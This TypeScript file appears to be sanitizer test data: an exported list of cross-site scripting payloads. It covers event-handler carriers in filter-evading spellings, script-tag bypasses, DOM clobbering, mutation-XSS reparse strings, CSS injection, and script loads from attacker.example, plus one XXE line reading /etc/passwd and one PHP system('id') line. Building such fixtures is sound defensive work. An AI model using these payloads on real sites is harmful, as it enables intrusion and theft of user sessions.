/** The payload of hostile strings: a dialog, and a mark on the window. */
const script = 'alert(1),window.pwned=1';

/** Elements that run script without interaction, with the event that triggers it. */
const carriers: readonly [tag: string, event: string][] = [
  ['img src=x', 'onerror'],
  ['image src=x', 'onerror'],
  ['svg', 'onload'],
  ['svg><animate attributeName=x dur=1s', 'onbegin'],
  ['svg><set attributeName=x', 'onbegin'],
  ['math><mtext><img src=x', 'onerror'],
  ['iframe src=/', 'onload'],
  ['object data=x', 'onerror'],
  ['embed src=x', 'onload'],
  ['video><source src=x', 'onerror'],
  ['audio src=x', 'onerror'],
  ['body', 'onpageshow'],
  ['details open', 'ontoggle'],
  ['input autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['a href=# autofocus tabindex=1', 'onfocus'],
  ['style', 'onload'],
  ['link rel=stylesheet href=/', 'onload'],
  ['marquee', 'onstart'],
  ['template><img src=x', 'onerror'],
];

/** Spellings of an element that a filter may miss. */
const spellings: readonly ((tag: string, event: string) => string)[] = [
  (tag, event) => `<${tag} ${event}="${script}">`,
  (tag, event) => `<${tag.toUpperCase()} ${event.toUpperCase()}=${script}>`,
  (tag, event) => `<${tag.replaceAll(' ', '/')}/${event}='${script}'//`,
  (tag, event) => `<\n${tag}\n${event}\n=\n"${script}"\n>`,
  (tag, event) => `"'><${tag} ${event}="${script}" x="`,
  (tag, event) => `<<${tag} ${event}=${script}`,
];

/** Elements with special parsing rules, in which a quoted end tag ends the element. */
const words =
  'title textarea style script xmp iframe noembed noframes noscript plaintext template select ' +
  'svg><style svg><foreignObject><title math><mtext><table><mglyph><style';
const rawContainers = [...words.split(' '), 'math><annotation-xml encoding="text/html"><style'];

const scripts = [
  `<script>${script}</script>`,
  `<SCRIPT SRC=data:text/javascript,${script}></SCRIPT>`,
  `<script>${script}`,
  `<scr<script>ipt>${script}</scr</script>ipt>`,
  `<script\u0000>${script}</script>`,
  `<script/x>${script}</script\n>`,
  `</script><script>${script}</script>`,
  `<svg><script href="data:,${script}"/></svg>`,
  `<svg><script>&#97;lert(1)</script></svg>`,
  `<script type=module>import("data:text/javascript,${script}")</script>`,
  `<script type="speculationrules">{"prefetch":[{"urls":["/"]}]}</script>`,
  `<script>trustedTypes.createPolicy("default",{createHTML:s=>s})</script>`,
  `<script>trustedTypes.createPolicy("dompurify",{createHTML:s=>s})</script>`,
];

/** Elements that change others. */
const clobbers = [
  '<form id=root><input name=innerHTML></form>',
  '<form name=document><input name=cookie>',
  '<a id=main></a><a id=main name=firstChild>',
  '<img name=getElementById><img name=createElement>',
  '<input name=attributes><input name=parentNode>',
  '<base href="https://attacker.example/">',
  `<meta http-equiv=refresh content="0;url=javascript:${script}">`,
  '<meta http-equiv=Content-Security-Policy content="script-src *">',
  '<link rel=manifest href=//attacker.example/><link rel=dns-prefetch href=//attacker.example>',
  `<iframe srcdoc="<script>parent.${script}</script>">`,
  `<form action="javascript:${script}"><button>Go</button></form>`,
  `<isindex action="javascript:${script}" type=submit>`,
  '<div contenteditable style="position:fixed;inset:0;z-index:9999">covers all</div>',
  '<custom-element is="x-y"><slot name="z"></slot></custom-element>',
];

const styles = [
  `<style>*{display:none!important}</style>`,
  `<style>@import "//attacker.example/x.css";</style>`,
  `<b style="background:url(javascript:${script})">x</b>`,
  `<b style="width:expression(${script})">x</b>`,
  `<b style="-moz-binding:url(//attacker.example/x.xml#x)">x</b>`,
  `</style><style>body{visibility:hidden}`,
  '}*{display:none}/*',
  '@keyframes x{}</style><b style=animation-name:x onanimationstart=alert(1)>',
];

/** Values that make a browser log a warning or send a request. */
const noisy = [
  '<svg viewBox="a b" width="-1"><path d="x y z"/><rect width="-1" height="x"/><circle r="-1"/></svg>',
  '<svg><polygon points="a"/><animate dur=x begin=y values=";"/><text rotate=x textLength=-1>t</text></svg>',
  '<svg><use href="//attacker.example/x.svg#a"/><image href="//attacker.example/x.png"/></svg>',
  '<picture><source srcset="//attacker.example/a 1x"><img srcset="//attacker.example/b 2x"></picture>',
  '<video autoplay poster=//attacker.example/p src=//attacker.example/v></video>',
  '<link rel=preload as=script href=//attacker.example/><link rel=stylesheet href=//attacker.example/>',
  '<meta name=viewport content="width=a;x=y"><meta name=referrer content=unsafe-url><meta charset=utf-7>',
  '<input type=number value=x pattern="["><meter value=x max=y></meter><progress value=x></progress>',
  '<dialog open>d</dialog><div popover>p</div><portal src=//attacker.example/></portal>',
  '<template shadowrootmode=open><style>*{color:red}</style><slot></slot></template>',
  '<table background=//attacker.example/><td background=//attacker.example/></table>',
  '<a ping=//attacker.example/ href=//attacker.example/ download>a</a>',
  'in style: <b style>style</b> STYLE=x',
  '<script>one</style>two</script>three<style>four</script>five</style>',
  '<script><!--<script></script>--></script><img src=x onerror=alert(1)>',
  '/story/x?subject=<script>',
  '<script src=//attacker.example/>text',
];

const unclosed = [
  '<',
  '</',
  '<b',
  '<a href="',
  "<a title='",
  '<!--',
  '<!-->',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!DOCTYPE',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>',
  '<?php system("id") ?>',
  '<p><b><i><u><p><b><i>',
  '</p></div></main></body></html>',
  '<table><tr><td><select><option>',
  ']]>',
  '-->',
  '"><',
  `'-${script}-'`,
  `*/${script}/*`,
  `";${script};//`,
  '\\";alert(1);//',
];

/** Markup that changes as it is parsed again. */
const reparsed = rawContainers.flatMap((open) => {
  const name = open.split('><').at(-1)?.split(' ')[0] ?? open;
  return [
    `<${open}><img title="</${name}><img src=x onerror=${script}>">`,
    `<${open}><!--</${name}><img src=x onerror=${script}>-->`,
  ];
});

/** Strings of markup, or that end the markup around them. */
export const hostileMarkup: readonly string[] = [
  ...carriers.flatMap(([tag, event]) => spellings.map((spell) => spell(tag, event))),
  ...[reparsed, scripts, clobbers, styles, noisy, unclosed].flat(),
];
